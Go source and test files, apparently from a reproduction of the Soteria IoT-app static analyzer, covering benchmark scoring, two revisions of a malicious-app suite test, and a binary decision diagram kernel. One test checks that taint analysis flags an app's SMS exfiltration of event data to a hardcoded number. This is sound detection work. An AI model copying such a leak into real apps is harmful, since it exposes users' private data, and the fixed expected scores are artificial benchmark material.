		for _, id := range r.Analysis.ViolatedIDs() {
			set[id] = true
		}
		violations[r.Key] = set
	}

	res := &SuiteResult{}
	for _, a := range suite {
		var reported map[string]bool
		if a.Cluster != "" {
			reported = violations["cluster:"+a.Cluster]
		} else {
			reported = violations[a.ID]
		}

		row := AppResult{App: a, Reported: sortedKeys(reported)}
		for _, want := range a.Expected {
			if reported[want] {
				row.Detected++
			}
		}
		res.GroundTruth += a.GroundTruthViolations

		switch a.Outcome {
		case TruePositive:
			row.Correct = row.Detected == len(a.Expected)
			res.Identified += min(row.Detected, a.GroundTruthViolations)
		case FalsePositive:
			row.Correct = row.Detected == len(a.Expected)
			if row.Correct {
				res.FalsePositives += len(a.Expected)
			}
		case DynamicRequired, OutOfScope:
			row.Correct = len(row.Reported) == 0
		}
		res.Apps = append(res.Apps, row)
	}
	return res, nil
}

func sortedKeys[V any](m map[string]V) []string {
	ks := make([]string, 0, len(m))
	for k := range m {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return ks
}

func min(a, b int) int {
	if a < b {
		return a
	}
	return b
}
