package maliot

import (
	"context"
	"strings"
	"testing"

	"github.com/soteria-analysis/soteria/internal/core"
	"github.com/soteria-analysis/soteria/internal/ir"
)

func TestSuiteShape(t *testing.T) {
	apps := Suite()
	if len(apps) != 17 {
		t.Fatalf("suite has %d apps, want 17", len(apps))
	}
	gt := 0
	seen := map[string]bool{}
	for i, a := range apps {
		wantID := "App" + itoa(i+1)
		if a.ID != wantID {
			t.Errorf("app %d has ID %s, want %s", i, a.ID, wantID)
		}
		if seen[a.ID] {
			t.Errorf("duplicate %s", a.ID)
		}
		seen[a.ID] = true
		if a.Source == "" || a.Description == "" {
			t.Errorf("%s: missing source or description", a.ID)
		}
		if !strings.Contains(a.Source, "Ground truth") {
			t.Errorf("%s: source lacks ground-truth comment block", a.ID)
		}
		gt += a.GroundTruthViolations
	}
	// The paper's corpus: 20 unique violations across the 17 apps.
	if gt != 20 {
		t.Errorf("ground-truth violations = %d, want 20", gt)
	}
}

func TestAllAppsParse(t *testing.T) {
	for _, a := range Suite() {
		app, err := ir.BuildSource(a.Name, a.Source)
		if err != nil {
			t.Errorf("%s: parse error: %v", a.ID, err)
			continue
		}
		if app.Name != a.Name {
			t.Errorf("%s: definition name = %q", a.ID, app.Name)
		}
	}
}

func TestClusters(t *testing.T) {
	cl := Clusters()
	want := map[string][]string{
		"motion-lights": {"App1", "App15"},
		"fire-lock":     {"App12", "App13", "App14"},
		"sleep-mode":    {"App16", "App17"},
	}
	if len(cl) != len(want) {
		t.Fatalf("clusters = %v", cl)
	}
	for name, members := range want {
		got := cl[name]
		if len(got) != len(members) {
			t.Errorf("cluster %s = %v, want %v", name, got, members)
			continue
		}
		for i := range members {
			if got[i] != members[i] {
				t.Errorf("cluster %s = %v, want %v", name, got, members)
			}
		}
	}
}

// TestRunMatchesPaperHeadline scores the suite under default options:
// the paper's 17 of 20 unique property violations plus App11's
// sensitive-data leak (T.2, found by this reproduction's taint
// family) = 18, with one false positive (App5, reflection) and
// silence on App9 (dynamic analysis required) and App10 (out of
// scope).
func TestRunMatchesPaperHeadline(t *testing.T) {
	res, err := Run()
	if err != nil {
		t.Fatal(err)
	}
	if res.GroundTruth != 20 {
		t.Errorf("ground truth = %d, want 20", res.GroundTruth)
	}
	if res.Identified != 18 {
		for _, r := range res.Apps {
			t.Logf("%s expected=%v reported=%v detected=%d correct=%t",
				r.App.ID, r.App.Expected, r.Reported, r.Detected, r.Correct)
		}
		t.Errorf("identified = %d, want 18", res.Identified)
	}
	if res.FalsePositives != 1 {
		t.Errorf("false positives = %d, want 1", res.FalsePositives)
	}
	for _, r := range res.Apps {
		if !r.Correct {
			t.Errorf("%s: incorrect outcome; expected=%v (%s) reported=%v",
				r.App.ID, r.App.Expected, r.App.Outcome, r.Reported)
		}
	}
}

// TestRunWithoutTaintMatchesPaper reproduces the paper's §6.2 headline
// exactly: with the taint family disabled, App11's data leak is missed
// and Soteria identifies 17 of 20.
func TestRunWithoutTaintMatchesPaper(t *testing.T) {
	opts := core.DefaultOptions()
	opts.Taint = false
	res, err := RunOptions(context.Background(), 1, opts)
	if err != nil {
		t.Fatal(err)
	}
	if res.Identified != 17 {
		t.Errorf("identified without taint = %d, want 17 (the paper's headline)", res.Identified)
	}
	if res.FalsePositives != 1 {
		t.Errorf("false positives = %d, want 1", res.FalsePositives)
	}
	for _, r := range res.Apps {
		if r.App.ID == "App11" {
			if len(r.Reported) != 0 {
				t.Errorf("App11 without taint reported %v, want none", r.Reported)
			}
			continue
		}
		if !r.Correct {
			t.Errorf("%s: incorrect outcome; expected=%v (%s) reported=%v",
				r.App.ID, r.App.Expected, r.App.Outcome, r.Reported)
		}
	}
}

// TestApp11TaintWitness asserts the App11 detection carries a concrete
// source→sink witness with a satisfiable path condition: the exfil
// sendSms is flagged, the user-notification sendSms is not.
func TestApp11TaintWitness(t *testing.T) {
	a, ok := AppByID("App11")
	if !ok {
		t.Fatal("App11 missing")
	}
	an, err := core.AnalyzeSources(core.DefaultOptions(), core.NamedSource{Name: a.Name, Source: a.Source})
	if err != nil {
		t.Fatal(err)
	}
	ids := an.ViolatedIDs()
	found := false
	for _, id := range ids {
		if id == "T.2" {
			found = true
		}
	}
	if !found {
		t.Fatalf("App11 violations = %v, want T.2", ids)
	}
	if len(an.TaintFlows) == 0 {
		t.Fatal("App11: no taint flows recorded")
	}
	for _, f := range an.TaintFlows {
		if f.ID != "T.2" {
			t.Errorf("unexpected flow %s (%s -> %s)", f.ID, f.Source, f.Sink)
		}
		if f.Sink != "sendSms" || f.Channel != "messaging" {
			t.Errorf("flow sink = %s/%s, want sendSms/messaging", f.Sink, f.Channel)
		}
		if f.Source != "evt.displayName" && f.Source != "evt.date" {
			t.Errorf("flow source = %q, want an evt field", f.Source)
		}
		w := strings.Join(f.Witness, "\n")
		if !strings.Contains(w, "sendSms") || !strings.Contains(w, "555-013-3713") {
			t.Errorf("witness does not show the exfil sink call:\n%s", w)
		}
		if !strings.Contains(w, "(satisfiable)") {
			t.Errorf("witness lacks a satisfiable path condition:\n%s", w)
		}
		if strings.Contains(w, "kids left home") {
			t.Errorf("witness flags the benign notification sendSms:\n%s", w)
		}
	}
}

func TestAppByID(t *testing.T) {
	a, ok := AppByID("App5")
	if !ok || a.Outcome != FalsePositive {
		t.Errorf("App5 = %+v, ok=%t", a, ok)
	}
	if _, ok := AppByID("App99"); ok {
		t.Error("App99 should not exist")
	}
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var b []byte
	for n > 0 {
		b = append([]byte{byte('0' + n%10)}, b...)
		n /= 10
	}
	return string(b)
}
