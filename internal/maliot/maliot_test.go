package maliot

import (
	"strings"
	"testing"

	"github.com/soteria-analysis/soteria/internal/ir"
)

func TestSuiteShape(t *testing.T) {
	apps := Suite()
	if len(apps) != 17 {
		t.Fatalf("suite has %d apps, want 17", len(apps))
	}
	gt := 0
	seen := map[string]bool{}
	for i, a := range apps {
		wantID := "App" + itoa(i+1)
		if a.ID != wantID {
			t.Errorf("app %d has ID %s, want %s", i, a.ID, wantID)
		}
		if seen[a.ID] {
			t.Errorf("duplicate %s", a.ID)
		}
		seen[a.ID] = true
		if a.Source == "" || a.Description == "" {
			t.Errorf("%s: missing source or description", a.ID)
		}
		if !strings.Contains(a.Source, "Ground truth") {
			t.Errorf("%s: source lacks ground-truth comment block", a.ID)
		}
		gt += a.GroundTruthViolations
	}
	// The paper's corpus: 20 unique violations across the 17 apps.
	if gt != 20 {
		t.Errorf("ground-truth violations = %d, want 20", gt)
	}
}

func TestAllAppsParse(t *testing.T) {
	for _, a := range Suite() {
		app, err := ir.BuildSource(a.Name, a.Source)
		if err != nil {
			t.Errorf("%s: parse error: %v", a.ID, err)
			continue
		}
		if app.Name != a.Name {
			t.Errorf("%s: definition name = %q", a.ID, app.Name)
		}
	}
}

func TestClusters(t *testing.T) {
	cl := Clusters()
	want := map[string][]string{
		"motion-lights": {"App1", "App15"},
		"fire-lock":     {"App12", "App13", "App14"},
		"sleep-mode":    {"App16", "App17"},
	}
	if len(cl) != len(want) {
		t.Fatalf("clusters = %v", cl)
	}
	for name, members := range want {
		got := cl[name]
		if len(got) != len(members) {
			t.Errorf("cluster %s = %v, want %v", name, got, members)
			continue
		}
		for i := range members {
			if got[i] != members[i] {
				t.Errorf("cluster %s = %v, want %v", name, got, members)
			}
		}
	}
}

// TestRunMatchesPaperHeadline reproduces §6.2: Soteria identifies 17
// of the 20 unique property violations, produces one false positive
// (App5, reflection), and stays silent on App9 (dynamic analysis
// required), App10 and App11 (out of scope).
func TestRunMatchesPaperHeadline(t *testing.T) {
	res, err := Run()
	if err != nil {
		t.Fatal(err)
	}
	if res.GroundTruth != 20 {
		t.Errorf("ground truth = %d, want 20", res.GroundTruth)
	}
	if res.Identified != 17 {
		for _, r := range res.Apps {
			t.Logf("%s expected=%v reported=%v detected=%d correct=%t",
				r.App.ID, r.App.Expected, r.Reported, r.Detected, r.Correct)
		}
		t.Errorf("identified = %d, want 17", res.Identified)
	}
	if res.FalsePositives != 1 {
		t.Errorf("false positives = %d, want 1", res.FalsePositives)
	}
	for _, r := range res.Apps {
		if !r.Correct {
			t.Errorf("%s: incorrect outcome; expected=%v (%s) reported=%v",
				r.App.ID, r.App.Expected, r.App.Outcome, r.Reported)
		}
	}
}

func TestAppByID(t *testing.T) {
	a, ok := AppByID("App5")
	if !ok || a.Outcome != FalsePositive {
		t.Errorf("App5 = %+v, ok=%t", a, ok)
	}
	if _, ok := AppByID("App99"); ok {
		t.Error("App99 should not exist")
	}
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var b []byte
	for n > 0 {
		b = append([]byte{byte('0' + n%10)}, b...)
		n /= 10
	}
	return string(b)
}
