package bdd

import (
	"math"
	"math/rand"
	"strings"
	"testing"
)

// ---------------------------------------------------------------------------
// Rename monotonicity (regression: the old kernel silently produced a
// non-canonical BDD on crossing shift maps).

func TestRenameCrossingMappedLevelsPanics(t *testing.T) {
	m := New(4)
	f := m.And(m.Var(0), m.Var(2))
	defer func() {
		r := recover()
		if r == nil {
			t.Fatal("crossing rename {0:3, 2:1} did not panic")
		}
		if msg, ok := r.(string); !ok || !strings.Contains(msg, "not monotone") {
			t.Fatalf("unexpected panic value %v", r)
		}
	}()
	// 0→3 and 2→1 swap the order of the two mapped levels: the result
	// could not be reduced and ordered. InternShift must reject it.
	m.Rename(f, map[int]int{0: 3, 2: 1})
}

func TestRenameCrossingUnmappedLevelPanics(t *testing.T) {
	m := New(4)
	f := m.And(m.Var(0), m.Var(1))
	defer func() {
		r := recover()
		if r == nil {
			t.Fatal("crossing rename {0:2} over x0∧x1 did not panic")
		}
		if msg, ok := r.(string); !ok || !strings.Contains(msg, "not monotone") {
			t.Fatalf("unexpected panic value %v", r)
		}
	}()
	// The map {0:2} is monotone in isolation (one entry), but over a
	// BDD that also uses the unmapped level 1 it pushes level 0 past
	// level 1 — the per-node check in renameRec must catch it.
	m.Rename(f, map[int]int{0: 2})
}

func TestRenameOutOfRangePanics(t *testing.T) {
	m := New(2)
	defer func() {
		if recover() == nil {
			t.Fatal("rename image outside [0, nvars) did not panic")
		}
	}()
	m.Rename(m.Var(0), map[int]int{0: 5})
}

func TestRenameMonotoneStillWorks(t *testing.T) {
	m := New(6)
	f := m.Or(m.And(m.Var(0), m.Var(2)), m.NVar(4))
	g := m.Rename(f, map[int]int{0: 1, 2: 3, 4: 5})
	want := m.Or(m.And(m.Var(1), m.Var(3)), m.NVar(5))
	if g != want {
		t.Error("monotone rename produced a non-canonical result")
	}
}

// ---------------------------------------------------------------------------
// SatCount saturation (regression: the naive 2^n loop at high variable
// counts; pow2 must saturate to +Inf, not hang or overflow garbage).

func TestSatCountSaturatesAtHighVarCounts(t *testing.T) {
	const nvars = 1100
	m := New(nvars)
	if n := m.SatCount(True); !math.IsInf(n, 1) {
		t.Errorf("SatCount(true) over %d vars = %g, want +Inf", nvars, n)
	}
	if n := m.SatCount(m.Var(0)); !math.IsInf(n, 1) {
		t.Errorf("SatCount(x0) over %d vars = %g, want +Inf", nvars, n)
	}
	if n := m.SatCount(False); n != 0 {
		t.Errorf("SatCount(false) = %g, want 0", n)
	}
	// Constraining enough variables brings the count back into float64
	// range: 2^(1100-100) = 2^1000 is finite.
	f := True
	for v := 0; v < 100; v++ {
		f = m.And(f, m.Var(v))
	}
	if n := m.SatCount(f); n != math.Ldexp(1, 1000) {
		t.Errorf("SatCount(100-var conjunction) = %g, want 2^1000", n)
	}

	// The legacy kernel shares pow2 and must saturate identically.
	lm := NewLegacy(nvars)
	if n := lm.SatCount(True); !math.IsInf(n, 1) {
		t.Errorf("legacy SatCount(true) over %d vars = %g, want +Inf", nvars, n)
	}
}

// ---------------------------------------------------------------------------
// Unique-table rehash under adversarial load.

func TestRehashKeepsRefsCanonical(t *testing.T) {
	const bits = 14
	m := New(bits)
	minterm := func(i int) Ref {
		r := True
		for b := 0; b < bits; b++ {
			if i&(1<<b) != 0 {
				r = m.And(r, m.Var(b))
			} else {
				r = m.And(r, m.NVar(b))
			}
		}
		return r
	}
	// Intern a few functions before any serious growth...
	early := []Ref{minterm(0), minterm(1), m.Xor(m.Var(0), m.Var(13))}
	// ...then force thousands of fresh nodes through mk so the unique
	// table rehashes several times over.
	refs := make([]Ref, 0, 2048)
	for i := 0; i < 2048; i++ {
		refs = append(refs, minterm(i))
	}
	st := m.Stats()
	if st.Rehashes < 3 {
		t.Fatalf("expected several rehashes under %d nodes, got %d", st.Nodes, st.Rehashes)
	}
	if st.UniqueLoad > 0.75 {
		t.Errorf("unique table above the 3/4 growth threshold: load %.2f", st.UniqueLoad)
	}
	if st.UniqueCapacity&(st.UniqueCapacity-1) != 0 {
		t.Errorf("unique capacity %d is not a power of two", st.UniqueCapacity)
	}
	// Canonicity must survive every rehash: rebuilding a function
	// interned before the growth returns the identical Ref.
	if minterm(0) != early[0] || minterm(1) != early[1] {
		t.Error("pre-rehash minterm refs no longer canonical")
	}
	if m.Xor(m.Var(0), m.Var(13)) != early[2] {
		t.Error("pre-rehash xor ref no longer canonical")
	}
	for i, r := range refs {
		if minterm(i) != r {
			t.Fatalf("minterm %d re-interned to a different ref after rehash", i)
		}
	}
	// And the functions still mean what they meant.
	assign := make([]bool, bits)
	for b := 0; b < bits; b++ {
		assign[b] = 5&(1<<b) != 0
	}
	if !m.Eval(minterm(5), assign) || m.Eval(minterm(6), assign) {
		t.Error("minterm semantics wrong after rehash")
	}
}

// TestComputedTableEviction drives the lossy direct-mapped tables
// through heavy collision traffic: results must stay correct when
// entries are overwritten, and re-running the same workload must
// reproduce identical canonical refs.
func TestComputedTableEviction(t *testing.T) {
	const bits = 10
	m := New(bits)
	rng := rand.New(rand.NewSource(42))
	build := func() []Ref {
		rng = rand.New(rand.NewSource(42))
		out := make([]Ref, 0, 512)
		pool := []Ref{True, False}
		for v := 0; v < bits; v++ {
			pool = append(pool, m.Var(v))
		}
		for i := 0; i < 512; i++ {
			f := pool[rng.Intn(len(pool))]
			g := pool[rng.Intn(len(pool))]
			h := pool[rng.Intn(len(pool))]
			r := m.Ite(f, g, h)
			pool = append(pool, r)
			out = append(out, r)
		}
		return out
	}
	first := build()
	st := m.Stats()
	if st.ITELookups == 0 {
		t.Fatal("no ITE computed-table traffic")
	}
	if st.ITEHits >= st.ITELookups {
		t.Fatalf("hit count %d not below lookup count %d", st.ITEHits, st.ITELookups)
	}
	second := build()
	for i := range first {
		if first[i] != second[i] {
			t.Fatalf("op %d: lossy computed table broke canonicity (%d vs %d)", i, first[i], second[i])
		}
	}
	// Spot-check semantics against Eval on full random assignments.
	for trial := 0; trial < 64; trial++ {
		assign := make([]bool, bits)
		for b := range assign {
			assign[b] = rng.Intn(2) == 1
		}
		r := first[rng.Intn(len(first))]
		got := m.Eval(r, assign)
		// Recompute through fresh operations (cache state now differs).
		if m.Eval(r, assign) != got {
			t.Fatal("Eval not deterministic")
		}
	}
}

// ---------------------------------------------------------------------------
// Differential: the open-addressed kernel against the retained legacy
// map-based kernel, on identical random workloads.

func TestNewVsLegacyDifferential(t *testing.T) {
	const bits = 8
	nm := New(bits)
	lm := NewLegacy(bits)
	rng := rand.New(rand.NewSource(7))

	type pair struct{ n, l Ref }
	pool := []pair{{True, True}, {False, False}}
	for v := 0; v < bits; v++ {
		pool = append(pool, pair{nm.Var(v), lm.Var(v)})
	}
	pick := func() pair { return pool[rng.Intn(len(pool))] }
	for i := 0; i < 400; i++ {
		a, b := pick(), pick()
		var p pair
		switch rng.Intn(6) {
		case 0:
			p = pair{nm.And(a.n, b.n), lm.And(a.l, b.l)}
		case 1:
			p = pair{nm.Or(a.n, b.n), lm.Or(a.l, b.l)}
		case 2:
			p = pair{nm.Xor(a.n, b.n), lm.Xor(a.l, b.l)}
		case 3:
			p = pair{nm.Not(a.n), lm.Not(a.l)}
		case 4:
			p = pair{nm.Implies(a.n, b.n), lm.Implies(a.l, b.l)}
		case 5:
			c := pick()
			p = pair{nm.Ite(a.n, b.n, c.n), lm.Ite(a.l, b.l, c.l)}
		}
		pool = append(pool, p)
	}

	assign := make([]bool, bits)
	for mask := 0; mask < 1<<bits; mask++ {
		for b := 0; b < bits; b++ {
			assign[b] = mask&(1<<b) != 0
		}
		for i, p := range pool {
			if nm.Eval(p.n, assign) != lm.Eval(p.l, assign) {
				t.Fatalf("op %d: kernels disagree under assignment %0*b", i, bits, mask)
			}
		}
	}
	for i, p := range pool {
		if nm.SatCount(p.n) != lm.SatCount(p.l) {
			t.Fatalf("op %d: SatCount disagrees (%g vs %g)", i, nm.SatCount(p.n), lm.SatCount(p.l))
		}
	}

	// Quantification and (monotone) renaming on a sample of the pool.
	evens := map[int]bool{}
	shift := map[int]int{}
	for v := 0; v < bits; v += 2 {
		evens[v] = true
		shift[v] = v + 1
	}
	for i := 0; i < 50; i++ {
		p := pool[rng.Intn(len(pool))]
		ne, le := nm.Exists(p.n, evens), lm.Exists(p.l, evens)
		for mask := 0; mask < 1<<bits; mask++ {
			for b := 0; b < bits; b++ {
				assign[b] = mask&(1<<b) != 0
			}
			if nm.Eval(ne, assign) != lm.Eval(le, assign) {
				t.Fatalf("Exists disagrees on pool[%d]", i)
			}
		}
		q := pool[rng.Intn(len(pool))]
		nae, lae := nm.AndExists(p.n, q.n, evens), lm.AndExists(p.l, q.l, evens)
		if nm.SatCount(nae) != lm.SatCount(lae) {
			t.Fatalf("AndExists SatCount disagrees on pool[%d]", i)
		}
		// Renaming evens up by one is monotone only for BDDs not using
		// the odd levels; project them away first.
		odds := map[int]bool{}
		for v := 1; v < bits; v += 2 {
			odds[v] = true
		}
		pn, pl := nm.Exists(p.n, odds), lm.Exists(p.l, odds)
		rn, rl := nm.Rename(pn, shift), lm.Rename(pl, shift)
		if nm.SatCount(rn) != lm.SatCount(rl) {
			t.Fatalf("Rename SatCount disagrees on pool[%d]", i)
		}
	}
}

// ---------------------------------------------------------------------------
// Interning and stats.

func TestInternHandlesAreContentBased(t *testing.T) {
	m := New(6)
	a := m.InternVarSet(map[int]bool{1: true, 3: true})
	b := m.InternVarSet(map[int]bool{3: true, 1: true, 5: false})
	if a != b {
		t.Error("equal variable sets interned to different handles")
	}
	c := m.InternVarSet(map[int]bool{1: true})
	if a == c {
		t.Error("distinct variable sets share a handle")
	}
	s1 := m.InternShift(map[int]int{0: 1, 2: 3})
	s2 := m.InternShift(map[int]int{2: 3, 0: 1})
	if s1 != s2 {
		t.Error("equal shift maps interned to different handles")
	}
}

func TestStatsCountersMoveAndOpCacheHits(t *testing.T) {
	m := New(8)
	f := m.Xor(m.Var(0), m.Var(2))
	vs := m.InternVarSet(map[int]bool{0: true})
	r1 := m.ExistsSet(f, vs)
	before := m.Stats()
	r2 := m.ExistsSet(f, vs)
	after := m.Stats()
	if r1 != r2 {
		t.Fatal("ExistsSet not deterministic")
	}
	if after.OpHits <= before.OpHits {
		t.Error("repeated ExistsSet on an interned cube did not hit the op cache")
	}
	if after.ITEHitRate < 0 || after.ITEHitRate > 1 || after.OpHitRate < 0 || after.OpHitRate > 1 {
		t.Error("hit rates out of [0,1]")
	}
	if after.Nodes != m.Size() {
		t.Error("Stats.Nodes disagrees with Size()")
	}
}
