// Package bdd implements reduced ordered binary decision diagrams
// (ROBDDs): the data structure behind NuSMV's symbolic model checking
// (paper §5 uses "NuSMV options that combine BDD-based model checking
// with SAT-based model checking"). The implementation is the classic
// unique-table + ITE-cache design (Brace/Rudell/Bryant).
package bdd

import (
	"fmt"

	"github.com/soteria-analysis/soteria/internal/guard"
)

// Ref is a BDD node reference. False and True are the terminals.
type Ref int

// Terminal nodes.
const (
	False Ref = 0
	True  Ref = 1
)

type node struct {
	level  int // variable level; terminals use maxLevel
	lo, hi Ref
}

const maxLevel = 1 << 30

type triple struct {
	level  int
	lo, hi Ref
}

type iteKey struct{ f, g, h Ref }

// Manager owns the node store for a family of BDDs.
type Manager struct {
	nodes    []node
	unique   map[triple]Ref
	iteCache map[iteKey]Ref
	nvars    int
	budget   *guard.Budget
}

// SetBudget attaches a resource budget: node allocation is charged
// against MaxBDDNodes and Ite cooperatively checks the wall-clock
// deadline. A nil budget (the default) disables all checks.
func (m *Manager) SetBudget(b *guard.Budget) { m.budget = b }

// New creates a manager with the given number of variables.
func New(nvars int) *Manager {
	m := &Manager{
		unique:   map[triple]Ref{},
		iteCache: map[iteKey]Ref{},
		nvars:    nvars,
	}
	m.nodes = append(m.nodes,
		node{level: maxLevel}, // False
		node{level: maxLevel}, // True
	)
	return m
}

// NumVars returns the number of variables.
func (m *Manager) NumVars() int { return m.nvars }

// Size returns the number of allocated nodes (including terminals).
func (m *Manager) Size() int { return len(m.nodes) }

// mk returns the canonical node (level, lo, hi).
func (m *Manager) mk(level int, lo, hi Ref) Ref {
	if lo == hi {
		return lo
	}
	k := triple{level, lo, hi}
	if r, ok := m.unique[k]; ok {
		return r
	}
	m.budget.BDDNodes(1, "bdd")
	r := Ref(len(m.nodes))
	m.nodes = append(m.nodes, node{level: level, lo: lo, hi: hi})
	m.unique[k] = r
	return r
}

// Var returns the BDD for variable v.
func (m *Manager) Var(v int) Ref {
	if v < 0 || v >= m.nvars {
		panic(fmt.Sprintf("bdd: variable %d out of range", v))
	}
	return m.mk(v, False, True)
}

// NVar returns the BDD for ¬v.
func (m *Manager) NVar(v int) Ref {
	return m.mk(v, True, False)
}

func (m *Manager) level(r Ref) int { return m.nodes[r].level }

// Ite computes if-then-else(f, g, h) — the universal connective.
func (m *Manager) Ite(f, g, h Ref) Ref {
	// Terminal cases.
	switch {
	case f == True:
		return g
	case f == False:
		return h
	case g == h:
		return g
	case g == True && h == False:
		return f
	}
	k := iteKey{f, g, h}
	if r, ok := m.iteCache[k]; ok {
		return r
	}
	m.budget.Tick("bdd")
	// Split on the top variable.
	top := m.level(f)
	if l := m.level(g); l < top {
		top = l
	}
	if l := m.level(h); l < top {
		top = l
	}
	f0, f1 := m.cofactors(f, top)
	g0, g1 := m.cofactors(g, top)
	h0, h1 := m.cofactors(h, top)
	lo := m.Ite(f0, g0, h0)
	hi := m.Ite(f1, g1, h1)
	r := m.mk(top, lo, hi)
	m.iteCache[k] = r
	return r
}

func (m *Manager) cofactors(f Ref, level int) (lo, hi Ref) {
	n := m.nodes[f]
	if n.level != level {
		return f, f
	}
	return n.lo, n.hi
}

// And computes f ∧ g.
func (m *Manager) And(f, g Ref) Ref { return m.Ite(f, g, False) }

// Or computes f ∨ g.
func (m *Manager) Or(f, g Ref) Ref { return m.Ite(f, True, g) }

// Not computes ¬f.
func (m *Manager) Not(f Ref) Ref { return m.Ite(f, False, True) }

// Xor computes f ⊕ g.
func (m *Manager) Xor(f, g Ref) Ref { return m.Ite(f, m.Not(g), g) }

// Implies computes f → g.
func (m *Manager) Implies(f, g Ref) Ref { return m.Ite(f, g, True) }

// AndN conjoins several BDDs.
func (m *Manager) AndN(fs ...Ref) Ref {
	r := True
	for _, f := range fs {
		r = m.And(r, f)
	}
	return r
}

// OrN disjoins several BDDs.
func (m *Manager) OrN(fs ...Ref) Ref {
	r := False
	for _, f := range fs {
		r = m.Or(r, f)
	}
	return r
}

// Exists existentially quantifies the variables in vars (given as a
// set of levels).
func (m *Manager) Exists(f Ref, vars map[int]bool) Ref {
	cache := map[Ref]Ref{}
	var rec func(f Ref) Ref
	rec = func(f Ref) Ref {
		if f == True || f == False {
			return f
		}
		if r, ok := cache[f]; ok {
			return r
		}
		n := m.nodes[f]
		lo := rec(n.lo)
		hi := rec(n.hi)
		var r Ref
		if vars[n.level] {
			r = m.Or(lo, hi)
		} else {
			r = m.mk(n.level, lo, hi)
		}
		cache[f] = r
		return r
	}
	return rec(f)
}

// AndExists computes ∃vars. (f ∧ g) — the relational product used for
// symbolic preimages — without building the full conjunction first.
func (m *Manager) AndExists(f, g Ref, vars map[int]bool) Ref {
	type key struct{ f, g Ref }
	cache := map[key]Ref{}
	var rec func(f, g Ref) Ref
	rec = func(f, g Ref) Ref {
		if f == False || g == False {
			return False
		}
		if f == True && g == True {
			return True
		}
		k := key{f, g}
		if r, ok := cache[k]; ok {
			return r
		}
		top := m.level(f)
		if l := m.level(g); l < top {
			top = l
		}
		f0, f1 := m.cofactors(f, top)
		g0, g1 := m.cofactors(g, top)
		lo := rec(f0, g0)
		var r Ref
		if vars[top] {
			if lo == True {
				r = True
			} else {
				hi := rec(f1, g1)
				r = m.Or(lo, hi)
			}
		} else {
			hi := rec(f1, g1)
			r = m.mk(top, lo, hi)
		}
		cache[k] = r
		return r
	}
	return rec(f, g)
}

// Rename substitutes variables according to the level map (old level
// -> new level). The mapping must be monotone (order-preserving) so
// the result remains reduced and ordered.
func (m *Manager) Rename(f Ref, shift map[int]int) Ref {
	cache := map[Ref]Ref{}
	var rec func(f Ref) Ref
	rec = func(f Ref) Ref {
		if f == True || f == False {
			return f
		}
		if r, ok := cache[f]; ok {
			return r
		}
		n := m.nodes[f]
		lvl := n.level
		if nl, ok := shift[lvl]; ok {
			lvl = nl
		}
		r := m.mk(lvl, rec(n.lo), rec(n.hi))
		cache[f] = r
		return r
	}
	return rec(f)
}

// Eval evaluates f under a full assignment (level -> value).
func (m *Manager) Eval(f Ref, assign []bool) bool {
	for f != True && f != False {
		n := m.nodes[f]
		if assign[n.level] {
			f = n.hi
		} else {
			f = n.lo
		}
	}
	return f == True
}

// SatCount returns the number of satisfying assignments over all
// manager variables.
func (m *Manager) SatCount(f Ref) float64 {
	cache := map[Ref]float64{}
	var rec func(f Ref, level int) float64
	rec = func(f Ref, level int) float64 {
		if f == False {
			return 0
		}
		if f == True {
			return pow2(m.nvars - level)
		}
		n := m.nodes[f]
		key := f
		var below float64
		if v, ok := cache[key]; ok {
			below = v
		} else {
			below = rec(n.lo, n.level+1) + rec(n.hi, n.level+1)
			cache[key] = below
		}
		return below * pow2(n.level-level)
	}
	return rec(f, 0)
}

func pow2(n int) float64 {
	r := 1.0
	for i := 0; i < n; i++ {
		r *= 2
	}
	return r
}

// AnySat returns one satisfying assignment of f (nil when f is
// unsatisfiable). Unconstrained variables are reported false.
func (m *Manager) AnySat(f Ref) []bool {
	if f == False {
		return nil
	}
	assign := make([]bool, m.nvars)
	for f != True {
		n := m.nodes[f]
		if n.hi != False {
			assign[n.level] = true
			f = n.hi
		} else {
			f = n.lo
		}
	}
	return assign
}
