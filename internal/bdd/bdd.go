// Package bdd implements reduced ordered binary decision diagrams
// (ROBDDs): the data structure behind NuSMV's symbolic model checking
// (paper §5 uses "NuSMV options that combine BDD-based model checking
// with SAT-based model checking").
//
// The Manager is a throughput-oriented kernel in the Brace/Rudell/
// Bryant tradition:
//
//   - The unique table is an open-addressed, power-of-two, linearly
//     probed hash table of node indices over the nodes arena — no
//     per-entry allocation, grow-by-doubling rehash at 3/4 load.
//   - The ITE computed table is a fixed-size, direct-mapped, lossy
//     cache (colliding entries overwrite), and Ite normalizes its
//     triple (standard-triple rules adapted to a kernel without
//     complement edges) so commutative variants hit the same slot.
//   - Quantification and renaming use a manager-level computed table
//     keyed by (op, f, g, varsID) with interned variable-set cubes and
//     shift maps, so fixpoint loops (symbolic preimages) reuse results
//     across calls instead of allocating a fresh cache per call.
//
// The previous map-based kernel is retained as LegacyManager (see
// legacy.go) as the reference implementation for differential tests
// and old-vs-new benchmarks.
package bdd

import (
	"fmt"
	"math"
	"sort"
	"strconv"

	"github.com/soteria-analysis/soteria/internal/guard"
)

// Ref is a BDD node reference. False and True are the terminals.
type Ref int

// Terminal nodes.
const (
	False Ref = 0
	True  Ref = 1
)

type node struct {
	level  int // variable level; terminals use maxLevel
	lo, hi Ref
}

const maxLevel = 1 << 30

// VarSet is an interned set of variable levels (see InternVarSet).
type VarSet int32

// Shift is an interned level-renaming map (see InternShift).
type Shift int32

// Stats is a snapshot of the kernel's table health, surfaced by the
// -bdd-bench benchmarks.
type Stats struct {
	// Nodes is the number of allocated nodes, including the two
	// terminals.
	Nodes int
	// UniqueCapacity is the unique table's slot count (0 for the
	// legacy map-based kernel, which has no fixed capacity).
	UniqueCapacity int
	// UniqueLoad is the unique table's load factor (entries/slots).
	UniqueLoad float64
	// Rehashes counts grow-by-doubling rehashes of the unique table.
	Rehashes int
	// ITELookups/ITEHits count computed-table probes in Ite;
	// ITEHitRate is their ratio.
	ITELookups uint64
	ITEHits    uint64
	ITEHitRate float64
	// OpLookups/OpHits count quantify/rename computed-table probes;
	// OpHitRate is their ratio.
	OpLookups uint64
	OpHits    uint64
	OpHitRate float64
}

func rate(hits, lookups uint64) float64 {
	if lookups == 0 {
		return 0
	}
	return float64(hits) / float64(lookups)
}

// Kernel is the operation surface shared by the open-addressed Manager
// and the retained map-based LegacyManager. The symbolic engine, the
